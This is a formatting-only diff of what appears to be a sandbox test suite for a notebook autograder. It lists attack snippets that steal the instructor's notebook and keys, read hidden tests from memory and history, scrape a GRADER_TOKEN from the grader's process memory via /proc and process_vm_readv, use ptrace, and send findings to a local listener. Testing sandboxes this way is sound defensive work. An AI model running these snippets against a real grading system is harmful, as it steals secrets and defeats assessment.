@@ -14,7 +14,8 @@ DESCRIPTORS = """
 for number in range(3, 256):
     for way in ("", "..", "../..", "../../.."):
         try:
-            place = os.open(f"{way}/submitted/ada/ps1/siege.ipynb" if way else "siege.ipynb", os.O_RDONLY, dir_fd=number)
+            place = f"{way}/submitted/ada/ps1/siege.ipynb" if way else "siege.ipynb"
+            place = os.open(place, os.O_RDONLY, dir_fd=number)
             print("GOT", number, os.read(place, 5_000_000).decode())
         except OSError: pass
 try:
@@ -98,7 +99,9 @@ def stack_of(process):
         for line in maps:
             if "[stack]" in line: return [int(each, 16) for each in line.split()[0].split("-")]
 """
-READS = PARENT + """
+READS = (
+    PARENT
+    + """
 import ctypes
 libc, found = ctypes.CDLL(None, use_errno=True), 0
 class Part(ctypes.Structure): _fields_ = [("base", ctypes.c_void_p), ("length", ctypes.c_size_t)]
@@ -111,6 +114,7 @@ for process in [int(name) for name in os.listdir("/proc") if name.isdigit() and 
         at = held.raw.find(b"GRADER_TOKEN=")
         print(process, held.raw[at:at + 40] if at >= 0 else "nothing")
 """
+)
 TRACES = """
 import ctypes
 libc = ctypes.CDLL(None, use_errno=True)
@@ -136,22 +140,69 @@ urllib.request.urlopen(f"http://127.0.0.1:{PORT}/{NAME}", timeout=1)
 """
 
 ATTACKS = (
-    Attack("reads-the-source", "file theft", "the instructor's own notebook, hidden tests and all", WRONG, last="print(open(f'{ROOM}/source/ps1/siege.ipynb').read())"),
-    Attack("reads-a-neighbour", "file theft", "what others handed in, by its place or from here", WRONG, last=NEIGHBOURS),
+    Attack(
+        "reads-the-source",
+        "file theft",
+        "the instructor's own notebook, hidden tests and all",
+        WRONG,
+        last="print(open(f'{ROOM}/source/ps1/siege.ipynb').read())",
+    ),
+    Attack(
+        "reads-a-neighbour", "file theft", "what others handed in, by its place or from here", WRONG, last=NEIGHBOURS
+    ),
     Attack("reads-the-seed", "file theft", "the class's keys", WRONG, last="print(open(f'{ROOM}/keys/seed').read())"),
     Attack("walks-up", "file theft", "a folder that was left open, or is above this one", WRONG, last=DESCRIPTORS),
-    Attack("callers-constants", "hidden tests", "the number to which the test compares, in the code that calls", CONSTANTS),
+    Attack(
+        "callers-constants", "hidden tests", "the number to which the test compares, in the code that calls", CONSTANTS
+    ),
     Attack("reads-history", "hidden tests", "the cells that ran before, as IPython keeps them", WRONG, last=HISTORY),
     Attack("reads-memory", "hidden tests", "the text of tests, anywhere in this process", WRONG, last=MEMORY),
-    Attack("reads-globals", "hidden tests", "what stands beside a function that a test hands over", GLOBALS, "twice", last="print(kept)"),
-    Attack("asks-the-line", "hidden tests", "the same, asked of the judge in the words of the line", ASKS, "twice", last="print(kept)", proof=Without(CELLS, 'raise Refused("a test\'s values are not yours to take apart")', "return")),
-    Attack("asks-for-privates", "hidden tests", "a private name of an object of the test's", PRIVATE, "twice", last="print(kept)", proof=Without(CELLS, 'not str(details.get("name", "")).startswith("_")', "True")),
+    Attack(
+        "reads-globals",
+        "hidden tests",
+        "what stands beside a function that a test hands over",
+        GLOBALS,
+        "twice",
+        last="print(kept)",
+    ),
+    Attack(
+        "asks-the-line",
+        "hidden tests",
+        "the same, asked of the judge in the words of the line",
+        ASKS,
+        "twice",
+        last="print(kept)",
+        proof=Without(CELLS, 'raise Refused("a test\'s values are not yours to take apart")', "return"),
+    ),
+    Attack(
+        "asks-for-privates",
+        "hidden tests",
+        "a private name of an object of the test's",
+        PRIVATE,
+        "twice",
+        last="print(kept)",
+        proof=Without(CELLS, 'not str(details.get("name", "")).startswith("_")', "True"),
+    ),
     Attack("reads-environments", "/proc", "the environment of who grades", WRONG, last=ENVIRONMENTS),
     Attack("reads-what-is-open", "/proc", "files and folders that other processes have open", WRONG, last=OPENED),
     Attack("reads-the-parent", "ptrace", "the memory of who grades, by process_vm_readv", WRONG, last=READS),
     Attack("traces", "ptrace", "any other process, to have it do anything", WRONG, last=TRACES),
-    Attack("calls-home", "network", "somebody outside who takes what was found", WRONG, last="socket.create_connection(('127.0.0.1', PORT), timeout=1).sendall(NAME.encode())"),
-    Attack("sends-a-datagram", "network", "the same without a connection, as a look-up of a name is", WRONG, last=DATAGRAM),
-    Attack("calls-by-name", "network", "a service of this machine that listens at an abstract address", WRONG, last=ABSTRACT),
+    Attack(
+        "calls-home",
+        "network",
+        "somebody outside who takes what was found",
+        WRONG,
+        last="socket.create_connection(('127.0.0.1', PORT), timeout=1).sendall(NAME.encode())",
+    ),
+    Attack(
+        "sends-a-datagram", "network", "the same without a connection, as a look-up of a name is", WRONG, last=DATAGRAM
+    ),
+    Attack(
+        "calls-by-name",
+        "network",
+        "a service of this machine that listens at an abstract address",
+        WRONG,
+        last=ABSTRACT,
+    ),
     Attack("asks-the-web", "network", "a web server, by Python's own means", WRONG, last=MESSAGE),
 )
